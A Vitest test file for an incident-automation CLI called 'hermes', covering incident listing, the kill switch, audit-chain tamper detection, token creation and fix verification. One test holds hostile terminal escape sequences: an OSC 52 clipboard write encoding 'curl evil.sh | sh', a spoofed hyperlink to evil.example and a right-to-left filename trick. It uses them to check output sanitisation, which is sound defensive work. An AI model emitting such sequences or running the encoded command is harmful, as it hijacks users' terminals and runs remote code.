import { execFile, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { TERMINAL_UNSAFE } from '../../bin/printable.js';
import { AuditLog } from '../../services/executor/audit.js';
import { loadUsers } from '../../services/ingest/credentials.js';
import type { IngestHandle } from '../../services/ingest/service.js';
import { startTestIngest } from '../../services/ingest/test/harness.js';
import { IncidentStore } from '../../shared/incidents.js';
import { webhookBody } from '../support/incidents.js';
import { openTestRedis, type TestRedis } from '../support/redis.js';

const run = promisify(execFile);
let t: TestRedis;
let ingest: IngestHandle;

beforeAll(async () => {
  t = await openTestRedis();
  ingest = await startTestIngest(t, { ADMIN_TOKEN: 'cli-admin', INGEST_TOKEN: 'cli-ingest' });
});
afterAll(async () => {
  await ingest.close();
  await t.close();
});

async function hermes(...args: string[]) {
  return run('node', ['bin/hermes.js', '--url', ingest.url, ...args], {
    env: { ...process.env, ADMIN_TOKEN: 'cli-admin', INGEST_TOKEN: 'cli-ingest' },
  });
}

it('fires a scenario, lists and shows incidents, and drives the kill switch', async () => {
  const fired = await hermes('fire', 'crash', '--json');
  const { incidents } = JSON.parse(fired.stdout);
  expect(incidents).toHaveLength(1);

  const table = await hermes('incidents');
  expect(table.stdout).toMatch(/^ID\s+LEVEL\s+SEVERITY\s+STATUS\s+ALERTNAME\s+SERVICE\s+INSTANCE/);
  expect(table.stdout).toMatch(/ServiceDown\s+api-gateway\s+api-server-03/);
  // The shortest unique prefix (at least 10 characters), accepted back wherever an id is.
  const short = table.stdout.split('\n')[1]?.split(/\s+/)[0] as string;
  expect(short).toHaveLength(10);
  expect(incidents[0].startsWith(short)).toBe(true);

  const shown = await hermes('incident', short);
  expect(shown.stdout).toMatch(/level 1\s+open\s+ServiceDown on api-server-03/);
  expect(shown.stdout).toMatch(/^service: api-gateway {2}alerts: 1 \(1 firing\)/m);
  // The timeline in words, not JSON: the alert with its summary.
  expect(shown.stdout).toMatch(/^-- \d{4}-\d\d-\d\d \(UTC\) --$/m);
  expect(shown.stdout).toMatch(
    /^\d\d:\d\d:\d\d {2}alert {8}ingest {7}firing ServiceDown on api-server-03 \(critical\): ServiceDown on api-server-03$/m,
  );
  expect(shown.stdout).not.toContain('{"');
  expect(shown.stdout).toMatch(/^actions:\n\(none\)$/m);
  // Where the incident is, from the shipped targets file: the host its alert names, over SSH.
  expect(shown.stdout).toMatch(/^where: api-gateway on api-server-03 via ssh \(target fleet\)$/m);

  // With the break-glass ADMIN_TOKEN, --by names anyone, marked as such.
  await hermes('pause', '--by', 'alice');
  expect(JSON.parse((await hermes('status', '--json')).stdout)).toMatchObject({
    paused: true,
    by: 'alice+break-glass',
  });
  await hermes('resume');
  const status = (await hermes('status')).stdout;
  expect(status).toMatch(/^automation: running$/m);
  expect(status).toMatch(
    /^queues: +triage 1, agent-actions 0, actions 0, notifications-ingest 1, notifications-triage 0, notifications-executor 0, email-digest 0 waiting$/m,
  );
  expect(status).toMatch(/^mode: +unknown \(no executor has started\)$/m);
  expect(status).toMatch(/^breaker: +closed$/m);
  // Which TARGETS_FILE ingest runs, as it published it.
  const targets = createHash('sha256').update(readFileSync('config/targets.yaml')).digest('hex');
  expect(status).toMatch(
    new RegExp(
      `^config: +ingest TARGETS_FILE config/targets\\.yaml: sha ${targets.slice(0, 12)}, loaded \\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\dZ$`,
      'm',
    ),
  );
  await t.redis.hset(t.keys.exec('breaker'), 'state', 'open', 'reopenAt', Date.now() + 60_000);
  expect((await hermes('status')).stdout).toMatch(
    /^breaker: +open \(state changes refused until .*hermes breaker reset/m,
  );
  await expect(hermes('breaker', 'reset')).rejects.toMatchObject({
    stderr: expect.stringMatching(/usage: hermes breaker reset --reason/),
  });
});

it('verifies the audit chain and exits 2 when it has been tampered with', async () => {
  const audit = new AuditLog(t.redis, t.keys);
  await audit.append({ decision: 'executed', tool: 'restart_service' });
  await audit.append({ decision: 'blocked', tool: 'delete_database' });
  const verified = (await hermes('audit', 'verify')).stdout;
  expect(verified).toMatch(/^chain: +intact: 2 entries, up to number 2$/m);
  expect(verified).toMatch(/^witness: +none given \(--witness FILE\)/m);
  const [, newest] = (await t.redis.xrevrange(t.keys.audit, '+', '-', 'COUNT', 1))[0] as [string, string[]];
  const hash = newest[newest.indexOf('hash') + 1] as string;
  expect((await hermes('audit', 'verify', '--seq', '2', '--hash', hash)).stdout).toMatch(
    /^witness: +agrees: witnessed entries kept unchanged 1, trimmed since 0; kept entries not in the witnesses given 1$/m,
  );
  await expect(hermes('audit', 'verify', '--seq', '3', '--hash', hash)).rejects.toMatchObject({
    code: 2,
    stdout: expect.stringMatching(/^witness: +BROKEN: entry 3 was witnessed but the chain ends at 2/m),
  });

  const [first] = (await t.redis.xrange(t.keys.audit, '-', '+', 'COUNT', 1)) as [string, string[]][];
  expect(await t.redis.xdel(t.keys.audit, first?.[0] ?? 'missing')).toBe(1);
  await expect(hermes('audit', 'verify')).rejects.toMatchObject({
    code: 2,
    stdout: expect.stringMatching(/^chain: +BROKEN at /m),
  });
});

it('fails with a clear message and exit code on errors', async () => {
  await expect(hermes('incident', 'inc_missing')).rejects.toMatchObject({
    code: 1,
    stderr: expect.stringMatching(/404 incident not found/),
  });
  await expect(hermes('fire', 'nope')).rejects.toMatchObject({
    stderr: expect.stringMatching(/unknown scenario/),
  });
  await expect(
    run('node', ['bin/hermes.js', '--url', ingest.url, 'incidents'], {
      env: { ...process.env, ADMIN_TOKEN: 'wrong' },
    }),
  ).rejects.toMatchObject({
    stderr: expect.stringMatching(
      /401 unauthorized\n {2}set ADMIN_TOKEN to the value ingest was started with \(the ADMIN_TOKEN you set was refused\)/,
    ),
  });
  const { ADMIN_TOKEN: _unset, ...withoutToken } = process.env;
  await expect(
    run('node', ['bin/hermes.js', '--url', ingest.url, 'approvals'], { env: withoutToken }),
  ).rejects.toMatchObject({
    stderr: expect.stringMatching(/set ADMIN_TOKEN .*\(ADMIN_TOKEN is not set here\)/),
  });
});

it('says so when a list is empty', async () => {
  expect((await hermes('approvals')).stdout.trim()).toBe('no pending approvals');
  expect((await hermes('incidents', '--status', 'failed')).stdout.trim()).toBe(
    'no incidents with status failed',
  );
  expect(JSON.parse((await hermes('approvals', '--json')).stdout)).toEqual({ approvals: [] });
});

it('never prints terminal control sequences from alerts, in text or JSON', async () => {
  const hostile = [
    '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007', // OSC 52: write the clipboard
    '\u001b[2J\u001b[H', // clear the screen
    '\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\', // OSC 8 hyperlink
    '\u009b31m', // C1 CSI
    '\u202egnp.exe', // right-to-left override
  ].join(' ');
  const body = webhookBody([
    {
      alertname: 'ServiceDown',
      service: 'api',
      instance: `api-server-09 ${hostile}`,
      annotations: { description: hostile, summary: hostile },
    },
  ]);
  const posted = await fetch(`${ingest.url}/webhooks/alertmanager`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: 'Bearer cli-ingest' },
    body: JSON.stringify(body),
  });
  const [id] = ((await posted.json()) as { incidents: string[] }).incidents;
  const text = (await hermes('incident', id as string)).stdout;
  expect(text).not.toMatch(TERMINAL_UNSAFE);
  expect(text).toContain('on api-server-09 \\u{1b}]52;c;');
  const json = (await hermes('incident', id as string, '--json')).stdout;
  expect(json).not.toMatch(TERMINAL_UNSAFE);
  expect(JSON.stringify(JSON.parse(json))).toContain('\\u001b]52;c;');
});

it('makes a token with its USERS_FILE entry, and hashes a token read from stdin', async () => {
  const made = (await hermes('users', 'new-token', '--name', 'erin')).stdout;
  const token = /it is not stored anywhere\): (\S+)/.exec(made)?.[1] ?? '';
  expect(token).toMatch(/^[A-Za-z0-9_-]{43}$/);
  const digest = createHash('sha256').update(token).digest('hex');
  // The printed entry is a USERS_FILE ingest accepts.
  const file = join(mkdtempSync(join(tmpdir(), 'hermes-cli-users-')), 'users.yaml');
  writeFileSync(file, `users:\n${made.slice(made.indexOf('  - name:'))}`);
  expect(loadUsers(file)).toEqual([{ name: 'erin', role: 'viewer', token_hash: `sha256:${digest}` }]);

  const hash = (input: string) =>
    spawnSync('node', ['bin/hermes.js', 'users', 'hash-token'], { input, encoding: 'utf8' });
  const hashed = hash(`${token}\n`);
  expect(hashed.status).toBe(0);
  expect(hashed.stdout.trim()).toBe(`sha256:${digest}`);
  const short = hash('hunter2\n');
  expect(short.status).toBe(1);
  expect(short.stderr.trim()).toBe(
    'hermes: a token is at least 24 characters without spaces; hermes users new-token makes one',
  );
});

it('shows a fix being verified: which fix ran, how often it is re-checked and until when', async () => {
  const { incidents } = JSON.parse((await hermes('fire', 'disk', '--json')).stdout) as {
    incidents: string[];
  };
  const id = incidents[0] as string;
  // What triage records when a fix ran and its alert has not cleared yet (services/triage/test covers that path).
  const store = new IncidentStore(t.redis, t.keys);
  await store.recordAction(id, {
    id: 'act-cleanup-1',
    tool: 'cleanup_disk',
    args: {},
    requestedBy: 'agent',
    decision: 'executed',
    at: '2026-12-07T12:03:40.000Z',
  });
  await store.setVerification(id, {
    actionIds: ['act-cleanup-1'],
    since: '2026-12-07T12:03:40.000Z',
    until: '2026-12-07T12:05:40.000Z',
    everySeconds: 5,
  });
  await store.setStatus(id, 'verifying', 'triage');

  const table = (await hermes('incidents', '--status', 'verifying')).stdout;
  expect(table).toMatch(/verifying, re-checking every 5 s until 12:05:40 UTC\s+DiskSpaceLow/);
  const shown = (await hermes('incident', id)).stdout;
  expect(shown).toMatch(/level \d\s+verifying\s+/);
  expect(shown).toMatch(/^verifying: cleanup_disk ran; re-checking every 5 s until 12:05:40 UTC$/m);
  expect(JSON.parse((await hermes('incident', id, '--json')).stdout).verification).toEqual({
    actionIds: ['act-cleanup-1'],
    since: '2026-12-07T12:03:40.000Z',
    until: '2026-12-07T12:05:40.000Z',
    everySeconds: 5,
  });
});
